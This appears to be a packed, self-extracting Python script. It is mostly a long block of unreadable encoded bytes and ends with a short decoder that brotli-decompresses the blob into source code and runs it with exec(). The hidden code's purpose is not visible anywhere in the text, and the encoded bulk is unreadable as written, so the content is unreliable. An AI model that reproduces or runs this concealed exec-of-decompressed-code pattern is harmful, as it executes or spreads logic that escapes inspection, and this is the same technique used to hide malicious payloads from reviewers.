O@Ga`vaaail5vC(i<KRg}W'e<?؀һ?<`)9<cҐygɻMaEXY!}2s|@kW|ֽsiڽ70Z׬7Hid`%'v1fu.˘8Ș`KR@6~ܖpiQQʼ.o]xV[?a:ogȁ-]Њzɚ;^K'˚6f|E.-Hw%PϖKhފw&'=3d<S92NnkZ@yCA§B;zS	)`{֧҇-XL^>~Z5C+enKS݉[A>|]:~/LwtJB֝s/#eǜ]L׭ss,@Pc؍S.X¸r0qqm֧&Ɓ`RT= \ŉJ5~1N$pŨBJ;DM87Ɍ!nR ڰ;f!$,uT\#^ȭ*kJ%RMkgӷZ\aЎB]j6u%	)$?c{YЄH4a{>*>OFE`ҋJ<XRn2-L m7WDkۭ._f^&\~,!/78(ӫG[~JقVF׀h7>ѫqpFr3)!DoӐ&@ĜDq,`ЕjSOߎ3uixvӀjBڂKOS[O<89uZD).UΡ
Z5EveA	y,̅̚IƱ5u0lXlܗ,
tF{N5qHAە>*f&%^nG&T%8j()":v1(6>w%ݜo*Q[y z^_~gZB'^sH:W$Uee >Xpf*,&k؛Kқ[%ӉĎӾbjLq6LޞtB"Tɠ4o-L:ze!hzaHr+g@ӔnM&Rgڹכ&KF5=n A}GC~
	?[f!N 96ñNUA_n#ӼvB^ȫ76y˹ ^0knI>t,cՅۛNΓ~0$Uj6gNήm1ûŋwE\._\Ž~KɨwـuWB5p38r>^'ފ#>7JA1̭'	0kOfٌו}s?%N7Ẋkwl@ Ks3YAzs2]4ՂXօ`sWkeiMzd[pϿu"x)sߪ:Pl	GUR/n MPf_C^ni(l'7ˋ_m:(PgYXc?ͦHͰ̍C\5(yNxC&!a<OzP8Ѡ~,y>'x	Dm:alިqc9-34jGt*47<f_Scjܴ1Ʒ9@k3<2ys:-=;/2-aݨD1E!{:k[1`p1|4r:͸%97uG-:O8<|$91	?uH+46`oFEƄ'*HveYgo-5;_e"[vn5%<s8EL	Ph2*ICz	ZGݗ$dAbr()U1H#KJΤF]}&q
~R,H^/k0j0YcI~eis
^&9ւ%+ĸN12*"Aai(f#	<,Kx˙lܼӗl/"vhߦ{S6#f|uߌo M<UkD?БE^أ[ӣA4i_@K.Á3s#wjRg1 J('mr,ԳŤJH4SbXoNv48sׯ 3Cȅܟ7m_J:'&uiP(S`r9"h^N=`8c.ΣpKI.D_-UԦwoFnZwUUT(w<R2"'5/:;l@7oŷV}LBZDs's1o+6H	8)x[ѱ?%|rk"L1"g.<ŔHL6,n
Ϙs&!.b|NQ!+L42)Og&X\Gsh!o'jįt8rB*c
!#Y:Y`{]pˈBo>AWW=HiE.k§ZޱZF

pBڂ'~amO}9L0D@>5R#!])p'ODV̶bK,\;l]-<+X@=(fܭm}U-dE@<%Z.n$/[kuMt[˭/LK	h/LKbgNYQU	sϴ8|mdmRD(.]ĎKN̆(Ek-B_(jg;EsWDv)ںrhĢ;ouՊĢ,Ot=Z	ْѩfٛc7|o[<ؤ{ڜio@A"4l[G̭iҴ%̠·.zF6lLR6|<<z-X՞D|RDt#Ƿ!òU!W!ېt΋KB;U8ZٜF)WȮ]ǔkԴvʀju؝7̇:edvIbBE/s!o<AR՘Z"ĵFn{?ܙY7PcX+Yk*|>N>=nݢcݾĪe-wwqШΌŅ}ІvӢVeǹl1[s!uj4S>fN9+Gk#*Qpo;eYw!NS;]EBRNЗ2|աfyӁ""rmƊvC*݅?LoZɾD߫[cٲעycfKbծY2<|,ǴNܹŀyIs?1iRcCFd>kqsu#[Ʒ]?P%Vwivu'+$Aef5&߾-*i4HLٺ-ڦSSy;(+_29.m?jRK~dG1ӼKs<n\z.Rx%f[1[űp#TC (LnyۡP?it
|6lW˰{A(ƒg5pfmEҶ?vID$gеB-nK/Eq\G΢ӱV{m_8'J4aKub#kxêB)җQC"-8ƳDcL	5ʝ̏\~_9t1~җ#>ɨLc4I3clsהG1ց:ǗoP3
'LEm:@fWMYHJޕ$I^;Je(
&l|A^W"T.67?rr`sB"AQ-Gǳ5'+ )j![Ƅ#n^&@ZV2GI0pdc nΥȞ5&lsv0P2*\dk!^ʺz֎.	ErPN!!lI]ruRbIW3&X:DCۿ7׾n%H:<\[h%5fˆgQݨˌ5O"AՆm5 8|P!hCfHBfNPJ݅H`MԈe*a 'kФ'Le![Rc/Erx/Hl>ͮwɼ{rnO^ϙ@cVϼߧ6ںFuƟ7`1SpcC?WHs@T_ٌFTХ4
?bƱ-ͻH'.o@  6H#PִÁLwk_klʆpIz.|L(6?(eepUTDAF<kg@9+VՖ$M$YM4W7{3MVz[*>ݦRaU֒J1ĵд6^R&~ׄձeғ)HN	-yŕ(8MS5'*5"˭[y=ʈصɎ|X% b3Rh޳>:T<k̷w٥bewҲnwmA`εI%-m fPS,z.nb!54Agٱ3b?#Q+$hMi3IѣO}q,vǬ|˺P4mJoq':4p0ºkϺ7pF:Q13'<8'9PH|BXa·τd2_&]<H?ۻ0$8e:~BռۉP_0QATR7	d)~X-,Ck?mوn))t8wWȮ֭oReW9	ԵӊuM~|j=4Mj?q3m=z=ӭh$b<
Gu<bj!aq/PRrptܷk2"Ǽ~o<Qmݾ8gے*סj>&>_>+԰.@ TmS+:,;+QJ-eNOLV*Brj" q[212*G2=,rۃ\_k\yZ6 3}ۜܽa`wFontC[D?^iשE{j׮Wn&wiŧI.?pR360aݛ*ul"YgԮTr	В?xz"9TO}/+Hhb08ܙS}Zn- ZZQRڦ̝5T)m,Q@!Zt#?`;Y<JW$"ApZֵG߀3kooFѥ(heG`˥`ߚ/%TLƈJ	Ir"u_PQGM+hW:Xs(]5ߖxZ'NxtU%@ԥ'9o)CV5oکOR$pǳ,~OY&mm6	ݲ4r2xΔɵپi?ײ"fߦS?yބoy+QkGl0z}3rjov«/?rQ%qܒH"pٻ%2gp>ѵ_TԃBcԑbPՎ=β?QN̕2F?tZZ
?0tcaQ*1h̒
cMֶ37@BhS3
rא'.%"#C_aj[=S=vܝ	(BRǙf7W@#>ݝas9}ľsMJ1v'ʬybh<S``QYAMWwCnqڎ0
@5$ۥ8m	Ά|Sź'*e
ɨNX(OJdnXID wa3P(s>=]v\7iV+a
=ATLW۽q:KǊ(8zb620y]
gyAњ[)<
cØ2EefzB4JcX}0D@Rrrr<Ñ΋[DT}uDf[x8-GFD6S5Fp4R7|HA}[FEBK҅Z<Yǅlz6_S	!D)}E_=ҀSu1Wr'|Ln9]ǝm#ǲ=QBs5x^ʗŔ_9JU*
Ⱦ[o\<*P(^tnJw{s	s(٘u0b"q%W~&@oMO$ |dкtrcfT"&b3w+>1l.SP͘q2U=(Klbܕ81!Pɉkj6QDsV$j9igPd9eLcbqtw;VcqIscot?ȱ!W9y$O]&9"=L*a1̫>?N!`L=9a-o»8w s*a"O8[V{:Ճ*o#`bL,%Nх
o+?P=NZHI]w2xMDwiTJBP.L<Z!9Ox#`
C֞SoӨvhn5y ՈTc'.=T3El !'Җ
Ҝȑ='DTE6WPT=Ӄ̻oѢ\a *~/bi|qAhJX$ݐwz>Gwe(6#Me<<K`@Y=<;e2U"~L^Wv2ZI`^
J[M̆sbDL/E
β(3%/9R\֤ۚG8I9}5=A\E}XLH e`z:ĞMmF!:biϠ֎ʟ[|#&ͲAi,ߎu%G/؏P3]i#E+h<MuXq|hq!QP7oT
ڳ&C0/k>`"}.-5%צRom78ר5s?P9\i@!`h2o\Mn]u@v{0~5jFmMVB]ѓީ)3-nV{2ETӸ3avfcܞ^Y/36P߫k{ͬ{d2L:A/@}8(1!ts׵QEnuaFrf:Y~49ZHHIե3Ukͤq?5y:axcdսPWE|?20dɜφV܉1rsn!۶:؋,){بߌqlշNlܟ߰5?
UjjqVDY7gݗqD ՚=^?$&lX<1:z׎D;)s,͊<q)YjǪܮ%phƼ.	1D{f2#Ï6ܟٶz(W/ùtjz1c޽֡͡ۤ[ѳb_'cx);Dܰ&$y_D\'Xk8hN։#or;1~"ssƂuU
h<ŀ>}wpuߕж	2#
QHT|#dnVPdY{4	Q}mffRBب5
e\O kM,TәkB|FZл.XھBb(lP§dn=7H^"(yiՆSՎ,GM܎K׌]fXR](F<(6E3h) 
gӛQ߰;!sڐ?Gs:(,Zb](+ơ7})Ztcɻw#T(ǇMV"nBn7'.YEX\'AB\Xgy8Xަ>=υϨfQN~7(uEn|:;LZ-9/*͍v^)=TSɨ;kҮ"kĵPrXƢ46n>DuƚH
t{\Үt;«8^1}tSC;MtD;ΫO8D_&R3ǌnJnbp_u=i}Ni7ޢvc3
hMS&aۦ8e͎v~G;j ɝ?Nμ(1(Te@-n$̃։u

)ĳQb9^p_T&PA34v15;R7s'͔\L$Wi;<Og<'ZkFVQ[Pv@ϔY`Z|5~p27ÃGfǦ^
kđ
m,ѥ> Tyc9Lpފi`ܫ'	hޓ>FĒ4-+L
*JF+13	"P~]Z9_,O-MR(~20`gLu#?yfP-=.ſCWp5Q^!t)I2ԕ%P*49ɇgR|g%gl+|ђCX?NJ}4آ;AZ!^˒Ven9=`Id> i8}gU'TshLe-AbWlFߋMA5G-T#c_y"k?O׫b£%ҰG~$٩īlոM7cs7H$л<`b9չ_-Xʻ.h8>Hq~@RUvSS.Glx.vg)+/t$E^NtСLK,}gϺӢ̊]U"!'MƋ<,a!z̡nK;{z3r6f':ʹJ<ldo_#b4TWr/Qm+n-C,f2"PF`ئa)Kidmdcv~Eo^@Nm+M-Oֆ2>q[O5(!-`jκ8:"40nBlRp~h86\XJtr_8qon7Y?s569GO`X!Rs]T8kӉPVUBr}"p$f1*ѝɜ/Ŭ#Ԇ,5uySpa#GKg*8\P<jΦJC#cTR)ԅ-*zkHa	Q 2@JjS:{͗GEtqa7nKLPuz0C=e+owfjv%4q4WT-hg[ޗ7ۺ5܊N)¸؜̠imM}a&^}QK&5]N؞"$KqT'bަ)2k$(8e?\I6xoU5@K);9rqؕ;
xwi`ф#
њUzVC4 kPv,
أLno%c{O+͞uTD]a\kpIV!cL^r2sdj'q6<+VhRܠ؅Ľ=>bfi{{:ގd$	n4
yw.S|cmwiu:52J?©Kuۗ@ގLu`O`ŗGƠ4{K [f}"՝:$E<'D͒@Fu^E~;nұ>BX/>֖:'Z3>9Rq]U+'VQhϔmP;ٟIFƮUR3Ƞi,R;|߰Ҍ@GȵٙۈLJ˪pR5Yg&eɉՌ]CEۗ+?P;ɭouD13T_ncgJ#
*#$[2WLj:Tklטڴ#ϜyOԝ[˟%<)Tϛ
[1upۆ4Ǆ4KъDW.4ϼݹy[k}p+?&DN߳_3	rHuǧ}c{yS/
p%܄¤,L.aNI?i0zy!ԷBw{lDS_ah3H̸ۨO(l&yh_k қv֬ޘ)>Q%XpVIlG$s3tSʁ=\ZPzÝݩ#bUE{;
3'Ys=]3d'57E'Hx5-%̗;@H7&0"cr2Ӂ?Bӕ՜%vvtŭ
S}Cvy3}AbCF'ߜ0M`ed8S߻.ZS?pM{]#I|gMo,'~dYǎ-ZEҲ:Lj3|8fN#~Rb*Ѹ*8Ŷ<ܧ?mdB?rtǤLh&&
\ö_Zy./ۚo]_*D2b%ݬ
OV]1uIAD*Z̟v։csYE¤_ҵe]ٜm/az1H0d#DũAEy<Z3ltXjɹbn Ҋs_J1Yy7ؚ0>Μx &?AH-
=cjt.:hKR}$UƗIRćI7n"|+P)$RI/.oX|
9JMaL&ۇn8̩A;NiZ@	lݵYaW-H*6[kb-J"9sbC)ٲz?+r0Ѳ|ASx00&#2ŴdHw[,ԙ3u6V0џ^IE.
kԀ:Du
hmph>]uhvûK%fz9UJ
$ۊZ>kÅ2;6a]x&jt׮cq8qO)(8CM{6Qkˠ"T{hʜ7z̭K\hтȝX~WxsJd3RMI+\SʔK~ʝ<RWz|RŘs'ۃP<50{T	OA[5<j̽Iۚ65uUˊA"IJB&Řȼ~ҹFůzDWMǲV_Gkrz}"ۮڧҹFw.vU83psQ_I Y>Ьe=
0ocNզ+R!	r`[-7ї5*Pׯ=M0P7%kPR<{YZțDL5|\bz0Jpȝܼ-cМ^-GHs<NTx\roCdx\jFW>rM~Q?BQ!I1Q6b}&?s}kȦKI8TDoT1aH#7]71!ِ=BGL8MN9,tۼΔv$(+b>~"YL$mΰ`ur4pq+Gcuٜpmjv|7Wq֤'t}(Փ[»ѮgJk_­ę^ɦ%ѡ&:Wިj?~Q3UP^R"hЬTƱwP@d(	u[C-"`m{~Zd<dWs>n-@MJuV`]{b;Q
AѣY5
§8܎*bbUbV<u#Fw4DR%|m%U$	SHf³<@4)I`Eeky,j6"ڒ=r2ĝQW~0ڡMS4*BYVxTp>mTDV6Sm-tjuh[++;1gEg`IWer9|=M4],Y4"LrԔ׫j8~öqʏ#XAFҺ[ݔeou!a9QE&q#e(%ZcG7?_dNߑr3vy,Pf1M (,T"sնpτnjj]g٫iKT,vuޔնZ܇Mۚk;o8väd)VIDnʎ9Œqٹt:1LGϔ8Ph/(%%sVoK|ċ֕;-JvS3Czh-ý<\5נuF27	g6oƶFSxqǺ?5fz`OM/K`sP>WBa1_{D_ܕe+4u:8$-F*$'С:ƕ!ɘR#OҟDl0n*H԰qBͿiz02pjXu8P,#wդ8?-%ezEhҟKui/c$<g)YNwIR+ZяWwтΎbƄ9Y{Yus=Ӑ0@%ő[FTAVVFLHMND(OEZMj	dHiZ5	2i|]wރ!^{<%rŷ_.Pqu8K0^M}r݋؊_$?-fbDcEja
T7˳T<MQ\o$T<^';Hd9"#ohh1zkB^jds~3AϠ9/VoϜfۤ,4OҀUG. Og{ATA\=oZ=R
,bҟȥHdKFd1T+&>(GH7CwcԵ4rKɓې܎S ^(aǟa%-Z0	=IjȾ<X,ؤ3əcUth?zAJo#ug%
?si7Għi/c58B´ZztkvE7B)<098PbRӇ|^Xuc߭Ԩn`ʙM>+o.gy}Lɖo"YJ9YQѷ{{Ma#RżG_!,i}'b_~o~> :|>Ս4.
	QG+%RYT~-Oynd.6!բ5ҵ9(ze|%=ÅY}2AN@Er^Avq<jÁY=`pEb&f8/B.
L΄`uc;t	IZߏZKޠO1' 	dhy5-3U^XPI*BPwT{ݚ#wʥk~f(m!_߾#>345xiE̯eq?%+eKl}>PeR^.Z\e%}3{éHaZqݛvZjWfW_!H#fɿ:[B
ljyV$c4ŷڒU֞rq4iڟ ĂGgѫ/rR9R]Ḃc	XwR_W@:T&)W՗3RPFީȝ|ÛAK=	dޝ_-0T|%qCďJh>
9).CFznl@2Tx:Ϧ!ĴܑP[}3HQU/Cť?J2Z0~oj<GV}nř!յXxWKƂVؘe$58@L#KI\֞ٲL;(O-W#WYj`Y&yeJ+:[2/=?p^!'k7(H
gjև@TuŴBmj2V45u5Oq֏޲cO
iX]\6b@bV°ўPtuJ+5^=<8|?&TҸDY4	q݀Sl#uҌɉ$$?xƄdTu÷L3Qch=Wl۸ш}˂~C|܊.y/|O\jUe Kщ_ؼH2$,0Z^`}zkMMjeishќ
e]B̷	&"UgX>vH8iċv8EY>!cnJ^keU:H{&6}@@=ԀTy9=HvȆfpZO'q-2u*>|wlݨ29Y6R_CGܚ7U;G'^;)]ڵ`wf~Y,!݊ɴ@̔'dKڙ<grwlSB#ʎhu_ޒ	e׷G|~.p"ܵ]Lc"ַmv1>4ȗ܃ZS[>mR)U`΋ܟ܋;FMS^/~:2O d&$P]	6F}g	ӆR`3VƇQj DzA[S	HvNYM{c͐".:CsʋRNH,/eѳOA*GeU+oK`£[L04xw{ҿVq,K
FG7߈evˏS6)Ț%qͽ3m\1y3oA=vÞ)SHT#C' /Cw1hP)+jNqݥ2U$ӕmFNvB3TYj\qԼAjQ~5q~9lw:ѐnlԧ(KϕYQνc>e#7,6d"^o5QNSXwLo׵}s=_8=m?2GqXcoqZ&Q INF	?ßYs(?F=2$5dP<bKgTnXY<s˚PI|hn!kI0U'PO9amĭč=?nѕdd˰iFWq]S;Rؿpצ3o7!j^:-eW\tD̋Mfx׉8_ͷl2!ޝ9})ԏw!۰dߊ[HXn4ڵPP4]fȁ@bnWF<<#jtĲ`L1RR|mC$>#=K%2nJDodz0ըli1Ί#).Wa4LO_ٙ_5t@c)foׄ׬9KUwīOG|Ae#R~y_`F%3xfsjPZ+2ձ{g&~g2)D
(]
W}/4A+diFa^ռq:.`=.2m=R-4|FCF#Th:7PCL&jXk`G|Uad<SS%&<XD}!Oz*>	OYCC7`AMW>pd\%,ϩH}˝JLujGwS[3κXƵ@|U-_^Sc:=O$ 3ȺkDjҮԒ	J^kޯ{Ed'YlcaݱaZ-uRc͜Fggqh6k-~uB{-6Ըa mvjԏW޵.!wur&~hķ/#ݡ
 ڧLv
wC.L<Gؘ<x
"Y}7ykޮHkxCxVZ1w̱Ӗ/"P vfìֲI0PA}6Ep}+/ebֳMz>LHƼpZfERf;/.Vs۰uhnÍ\=KL7B1qCѼ.MVAӶ<v"Xw>{Ŏ&0GLǈS
`-2J&&2DDz˴I[Ag*/\ҫ?`k*J25>0L*oSWɋƽyP\Љ`"QM+x9"Dj>_{]9"MʩU]$CS&цAVЯϮf@q>=Wk?ʋ(gX?Qs.g,TcOŨb3w121oZ$-Ð?p9(0Lb<{LNeǦ_]8rsַ7ʃeInθ߳2E`T(\Ck;oҜśԣ֐TGN2r-}ЁI޾%&'M#؅nűv!16$1h8KJDT1͍hWHKgtQkXFY$|To"d@ׅ1H/XҒP)h\0bzIg~tT>9Ցޔs,^1K<)>XX#l2l-"ڷKbro0jo7{yDS28Qc,)glZG{!0HmF85&ҍˌ3(I(V=Ĳc,7|JبdT=^F~ȇm4{K{ѥWYۏEpȰlÐČ'@qڢYN	/4c~@	ZԤR.D	.jߚ-hfG x!+On.lDSȾ046gOzEIΥ5ЗJ{,`nՒ,D>V,NBO̙m[IɅ6,autRsز.GYåeM*/Tˉ\NQ62t̍Nd1}&uG,s^Y|Ii*Ks!rnŧeAvE3d̨|EUQLa
 \P$Mۮ|&(Ё>~?NNԊBװ!>SJ:pG~*0*M%1]E
gUowq|;̸Gbߔp657zgBcQpwoŧ@Wyͷ%~OɱmdѶ"IAeB`l5m:Pn͒S#WͤٽCJA~ܶRJMV>UgEǹS;w9-oAھLZjqwf[l9(7Sa&sЏ8ij1~=|Ļ|oZĨ5Ǫ0_&|F%^wjY<]IP$̝ݟITTQ(8RJIiǰvdux:7kQE%&4ђBy/WIοY4\}\<Q<v^,$}SS*ą=1BfFeHv\"cS28XR=U0?g{N5fEoxh.)ӉNg(MW\U|_v,|\#eO|G[ёɰ${Y8_TqϏDi|k]H'^{=['µHsU[x0s
HfFB3>'+tԺӧvu$ DSUp[J:ZbwcdJiYu(vVoH,iևhY>.q'bȴHin?~$3ZYDbkrBZ.A3kbwCGp&"Gb2\j<7~s:NofUS;#u1Pxҧըn4t:k$OMsG2>vB4FOgi1''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25319)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
